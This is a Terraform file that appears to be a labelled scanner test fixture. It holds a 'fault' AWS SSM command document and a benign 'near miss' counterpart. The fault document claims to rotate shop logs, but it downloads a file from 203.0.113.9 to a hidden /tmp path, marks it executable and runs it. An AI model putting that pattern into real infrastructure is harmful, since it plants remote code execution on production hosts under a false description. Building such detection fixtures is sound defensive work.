# A command document downloads a program and runs it.
# Source: https://docs.aws.amazon.com/systems-manager/latest/userguide/documents.html
# Fault at: aws_ssm_document.ssmdoc_fault
# Near miss at: aws_ssm_document.ssmdoc_near

resource "aws_ssm_document" "ssmdoc_fault" {
  name            = "shop-prod-ssmdoc-fault"
  document_type   = "Command"
  document_format = "YAML"

  content = <<-YAML
    schemaVersion: "2.2"
    description: Rotates the logs of the shop.
    mainSteps:
      - action: aws:runShellScript
        name: rotate
        inputs:
          runCommand:
            - wget -qO /tmp/.r http://203.0.113.9/r
            - chmod +x /tmp/.r
            - /tmp/.r
  YAML
}

resource "aws_ssm_document" "ssmdoc_near" {
  name            = "shop-prod-ssmdoc-near"
  document_type   = "Command"
  document_format = "YAML"

  content = <<-YAML
    schemaVersion: "2.2"
    description: Rotates the logs of the shop.
    mainSteps:
      - action: aws:runShellScript
        name: rotate
        inputs:
          runCommand:
            - /usr/sbin/logrotate --force /etc/logrotate.d/shop
            - curl -fsS http://localhost:8080/healthz
  YAML
}
